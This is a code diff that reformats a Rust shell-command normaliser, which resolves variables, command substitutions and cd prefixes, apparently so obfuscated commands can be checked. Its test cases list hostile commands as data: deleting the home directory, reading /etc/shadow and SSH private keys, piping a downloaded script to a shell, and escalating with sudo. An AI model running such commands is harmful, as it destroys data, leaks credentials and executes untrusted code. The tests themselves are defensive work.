@@ -52,7 +52,9 @@ fn with_variables(raw: &str) -> Option<String> {
         changed |= substitute(text, &vars, &mut out);
         at = seg.end;
         let mut set = Vec::new();
-        assignments(text, &vars, &mut toks, &mut |name, value| set.push((name.into(), value)));
+        assignments(text, &vars, &mut toks, &mut |name, value| {
+            set.push((name.into(), value))
+        });
         for (name, value) in set {
             vars.retain(|(n, _)| *n != name);
             vars.push((name, value));
@@ -82,7 +84,8 @@ fn in_directory(text: &str) -> Option<String> {
         tokenize(s, Dialect::Posix, &mut toks);
         if toks.value(0) == "cd" && toks.len() == 2 {
             let d = toks.value(1);
-            dir = (d.starts_with('/') || d.starts_with('~')).then(|| d.trim_end_matches('/').into());
+            dir =
+                (d.starts_with('/') || d.starts_with('~')).then(|| d.trim_end_matches('/').into());
             out.push_str(s);
             continue;
         }
@@ -118,7 +121,9 @@ fn rebase(s: &str, t: &Tokens, dir: &str, out: &mut String) -> bool {
             joined.push_str(w);
             // A leading `~` stays bare: quoted, it would be a literal name.
             match joined.strip_prefix('~') {
-                Some(rest) if !rest.contains(['\'', ' ', '"', '\\', '$', '`']) => out.push_str(&joined),
+                Some(rest) if !rest.contains(['\'', ' ', '"', '\\', '$', '`']) => {
+                    out.push_str(&joined)
+                }
                 _ => quote_word(&joined, out),
             }
             changed = true;
@@ -194,7 +199,10 @@ fn substitute(text: &str, vars: &[(String, String)], out: &mut String) -> bool {
             _ => {}
         }
         // Copy one character (multi-byte ones whole).
-        let len = text.get(k..).and_then(|s| s.chars().next()).map_or(1, char::len_utf8);
+        let len = text
+            .get(k..)
+            .and_then(|s| s.chars().next())
+            .map_or(1, char::len_utf8);
         out.push_str(text.get(k..k + len).unwrap_or(""));
         k += len;
     }
@@ -268,11 +276,23 @@ mod tests {
         let cases: &[(&str, Option<&str>)] = &[
             ("X=rm; $X -rf ~", Some("X=rm; rm -rf ~")),
             ("a=r b=m; $a$b -rf ~", Some("a=r b=m; rm -rf ~")),
-            ("c=/etc/sha; cat ${c}dow", Some("c=/etc/sha; cat /etc/shadow")),
+            (
+                "c=/etc/sha; cat ${c}dow",
+                Some("c=/etc/sha; cat /etc/shadow"),
+            ),
             ("S=sudo; $S sh", Some("S=sudo; sudo sh")),
-            ("f=~/.bash''rc; echo x >> $f", Some("f=~/.bash''rc; echo x >> ~/.bashrc")),
-            ("export D=/etc; cat $D/shadow", Some("export D=/etc; cat /etc/shadow")),
-            ("u=https://x/s; curl -s $u | $SHELL", Some("u=https://x/s; curl -s https://x/s | sh")),
+            (
+                "f=~/.bash''rc; echo x >> $f",
+                Some("f=~/.bash''rc; echo x >> ~/.bashrc"),
+            ),
+            (
+                "export D=/etc; cat $D/shadow",
+                Some("export D=/etc; cat /etc/shadow"),
+            ),
+            (
+                "u=https://x/s; curl -s $u | $SHELL",
+                Some("u=https://x/s; curl -s https://x/s | sh"),
+            ),
             ("$(echo rm) -rf ~", Some("rm -rf ~")),
             ("`echo rm` -rf $HOME", Some("rm -rf $HOME")),
             ("echo '$X'; X=1", None),
@@ -280,7 +300,10 @@ mod tests {
             ("echo $HOME", None),
             ("git status", None),
             ("cd /etc && cat shadow", Some("cd /etc && cat /etc/shadow")),
-            ("cd ~/.ssh && cat id_rsa", Some("cd ~/.ssh && cat ~/.ssh/id_rsa")),
+            (
+                "cd ~/.ssh && cat id_rsa",
+                Some("cd ~/.ssh && cat ~/.ssh/id_rsa"),
+            ),
             ("cd src && cat x", None),
             ("cd /tmp && ls -la", None),
         ];
